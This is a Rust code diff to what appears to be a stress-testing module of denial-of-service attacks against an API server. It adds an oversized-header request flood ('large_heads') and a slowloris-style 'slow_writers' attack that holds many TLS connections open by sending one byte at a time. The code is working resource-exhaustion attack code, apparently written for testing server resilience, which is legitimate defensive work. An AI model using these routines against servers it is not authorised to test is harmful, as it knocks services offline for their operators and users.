@@ -1,8 +1,8 @@
 //! Attacks that hold much and want little.
 
-use std::io::{Read, Write};
+use std::io::{ErrorKind, Read, Write};
 use std::net::TcpStream;
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use socket2::{Domain, Socket, Type};
 
@@ -13,10 +13,16 @@ const MANY: usize = 10_000;
 const CONNECTIONS: usize = 300;
 /// Few enough that all read their answers within the minute that the API server gives them.
 const READERS: usize = 20;
+/// Few enough that the API server has places for others.
+const WRITERS: usize = 80;
 const THREADS: usize = 4;
 const MEGABYTE: usize = 1 << 20;
 /// How long the end of a connection is listened to.
 const END: Duration = Duration::from_millis(200);
+/// How long a look takes at whether there is an answer.
+const LOOK: Duration = Duration::from_millis(1);
+/// How much longer than an attack it may take until whoever is slow is told.
+const TELLING: Duration = Duration::from_mins(2);
 
 /// Connects without waiting for the answer, and holds what it gets.
 pub(super) fn connections(target: &Target) -> Damage {
@@ -34,7 +40,7 @@ pub(super) fn connections(target: &Target) -> Damage {
     }
     wait_for(target);
     for mut stream in held {
-        let is_open = matches!(stream.read(&mut [0]), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock);
+        let is_open = matches!(stream.read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock);
         damage.closed += u64::from(!is_open);
     }
     damage
@@ -110,16 +116,48 @@ pub(super) fn header_lines(target: &Target) -> Damage {
     })
 }
 
-pub(super) fn slow_heads(target: &Target) -> Damage {
+pub(super) fn large_heads(target: &Target) -> Damage {
+    let line = "a".repeat(MEGABYTE + (128 << 10));
+    let request = request(target, "GET", &format!("x-line: {line}\r\n"));
     on_threads(THREADS, || {
-        let (mut held, mut damage) = many(target);
+        let mut damage = Damage::default();
         while !target.is_over() {
-            for tls in &mut held {
-                let _ = tls.write_all(b"x").and_then(|()| tls.flush());
+            ask(target, request.as_bytes(), &mut damage);
+        }
+        damage
+    })
+}
+
+/// Half of them have sent their head, and go on with a body.
+pub(super) fn slow_writers(target: &Target) -> Damage {
+    let head = request(target, "POST", "Content-Type: application/json\r\nContent-Length: 100000\r\n");
+    let beginnings = ["GET /".as_bytes(), head.as_bytes()];
+    on_threads(THREADS, || {
+        let mut damage = Damage::default();
+        let mut writers = Vec::new();
+        for number in 0..WRITERS / THREADS {
+            let Ok(mut tls) = target.shake_hands(b"http/1.1") else { continue };
+            let beginning = beginnings[number % beginnings.len()];
+            damage.connections += 1;
+            if tls.write_all(beginning).and_then(|()| tls.flush()).is_ok() {
+                let _ = tls.sock.set_read_timeout(Some(LOOK));
+                writers.push(tls);
             }
+        }
+        let latest = target.until + TELLING;
+        while !writers.is_empty() && Instant::now() < latest {
+            writers.retain_mut(|tls| {
+                // Refused, it can't be written.
+                let _ = tls.write_all(b"x").and_then(|()| tls.flush());
+                let mut answer = [0; 512];
+                match tls.read(&mut answer) {
+                    Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => return true,
+                    read => damage.answer(&answer[..read.unwrap_or_default()]),
+                }
+                false
+            });
             std::thread::sleep(END);
         }
-        listen_to_all(held, &mut damage);
         damage
     })
 }
@@ -214,7 +252,7 @@ fn has_ended(tcp: &mut TcpStream) -> bool {
     if tcp.set_nonblocking(true).is_err() {
         return true;
     }
-    !matches!(tcp.read(&mut [0]), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock)
+    !matches!(tcp.read(&mut [0]), Err(error) if error.kind() == ErrorKind::WouldBlock)
 }
 
 fn wait_for(target: &Target) {
